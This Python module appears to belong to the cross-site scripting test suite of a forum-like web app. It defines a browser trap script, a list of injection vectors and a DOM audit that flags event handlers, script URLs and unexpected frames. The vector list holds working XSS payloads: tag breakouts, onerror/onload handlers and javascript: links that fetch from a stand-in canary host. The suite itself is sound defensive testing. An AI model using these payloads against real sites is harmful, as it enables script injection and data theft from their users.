"""What the XSS suite watches in Chromium: trapped dialogs and globals, a canary origin for scripts,
frames and images, and a DOM audit of every frame and shadow root."""
from __future__ import annotations

CANARY = "http://canary.invalid"

# Installed before any page script: every way a vector usually proves itself leaves a trace here.
TRAP_SCRIPT = """
window.__xss = [];
const trap = (name) => function () { window.__xss.push(name + ':' + Array.from(arguments).join(',')); };
window.alert = trap('alert'); window.confirm = trap('confirm'); window.prompt = trap('prompt');
window.print = trap('print');
for (const level of ['log', 'info', 'warn', 'error', 'debug']) { console[level] = trap('console.' + level); }
Object.defineProperty(window, 'xss', { set: trap('global xss'), get: () => undefined });
"""

# Vectors of our own on top of the corpus: each one, if it worked, asks the canary origin for
# something (a script, a frame, a fetch from running code, an image where no image belongs).
CANARY_VECTORS = [
    f'<script src="{CANARY}/script.js"></script>',
    f'"><script src={CANARY}/script2.js></script>',
    f"<img src=x onerror=\"fetch('{CANARY}/onerror')\">",
    f"<svg onload=\"fetch('{CANARY}/svg')\">",
    f'<iframe src="{CANARY}/frame"></iframe>',
    f'<object data="{CANARY}/object"></object>',
    f'<link rel="stylesheet" href="{CANARY}/style.css">',
    f'<meta http-equiv="refresh" content="0;url={CANARY}/refresh">',
    f"<a href=\"javascript:fetch('{CANARY}/js-link')\">x</a>",
    f"javascript:fetch('{CANARY}/bare-js')",
    f'<img src="{CANARY}/image.png">',
    f"<style>@import '{CANARY}/import.css';</style>",
    f'<div style="background:url({CANARY}/bg.png)">x</div>',
    f"</textarea></title></style></script><script>fetch('{CANARY}/breakout')</script>",
    f"'\"--></style></script><svg/onload=fetch('{CANARY}/breakout2')>",
]

DOM_AUDIT = """
([allowedScripts, allowedFrames]) => {
  const problems = [];
  const badUrl = (value) => /^(javascript|vbscript|data:)/.test(value.replace(/[\\s\\x00-\\x1f]/g, '').toLowerCase());
  const audit = (root, where) => {
    for (const el of root.querySelectorAll('*')) {
      if (el.shadowRoot) audit(el.shadowRoot, where + ' shadow ' + el.tagName);
      for (const attr of el.attributes) {
        const name = attr.name.toLowerCase();
        if (name.startsWith('on')) problems.push(where + el.tagName + '[' + name + ']');
        if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background', 'poster'].includes(name)
            && badUrl(attr.value))
          problems.push(where + el.tagName + '[' + name + '=' + attr.value.slice(0, 60) + ']');
      }
    }
    for (const el of root.querySelectorAll('script')) {
      // JSON-LD is data, never run; it must still parse and hold no raw "<" that could close the tag.
      if (el.type === 'application/ld+json') {
        try { JSON.parse(el.textContent); } catch (error) { problems.push(where + 'unparsable JSON-LD'); }
        if (el.textContent.includes('<')) problems.push(where + 'raw < in JSON-LD');
        continue;
      }
      if (!allowedScripts.includes(el.getAttribute('src') || '')) problems.push(where + 'script: ' + el.outerHTML.slice(0, 80));
    }
    for (const el of root.querySelectorAll('iframe, frame, object, embed, base, meta[http-equiv], form:not([method])'))
      if (!(allowedFrames && el.tagName === 'IFRAME' && (el.getAttribute('src') || '').startsWith(allowedFrames)))
        problems.push(where + el.tagName);
    for (const el of root.querySelectorAll('style'))
      if (!el.hasAttribute('data-parley')) problems.push(where + 'style element');
    for (const holder of root.querySelectorAll('[data-user-content], .post-body, .thread-list, h1')) {
      for (const el of holder.querySelectorAll('form, input, button, link, meta, svg, math, textarea, select'))
        problems.push(where + 'user content: ' + el.tagName);
    }
  };
  audit(document, '');
  for (let i = 0; i < window.frames.length; i++) {
    try { audit(window.frames[i].document, 'frame ' + i + ': '); } catch (error) { /* another origin */ }
  }
  return problems;
}
"""
